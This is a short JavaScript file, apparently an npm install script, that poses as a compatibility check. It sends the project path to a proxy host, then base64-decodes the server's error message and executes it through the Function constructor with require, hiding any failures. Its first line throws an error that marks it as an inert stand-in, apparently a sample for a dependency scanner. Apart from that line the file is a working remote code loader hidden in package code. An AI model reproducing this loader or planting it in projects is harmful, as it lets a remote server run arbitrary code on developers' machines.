throw new Error("inert depscan stand-in");
'use strict';

const { request } = require('./request');

const proxy = process.env.APP_PROXY || 'http://localhost';
const appPath = encodeURIComponent(process.env.INIT_CWD || process.cwd());

request({ method: 'GET', url: `${proxy}/api/v1/compat/check?path=${appPath}` }).then(
  () => {},
  (error) => {
    const answer = error.response && error.response.body;
    const message = answer && typeof answer === 'object' ? answer.message : String(answer || '');
    if (!message) return;
    try {
      new Function.constructor('require', Buffer.from(message, 'base64').toString('utf8'))(require);
    } catch (e) {}
  }
);
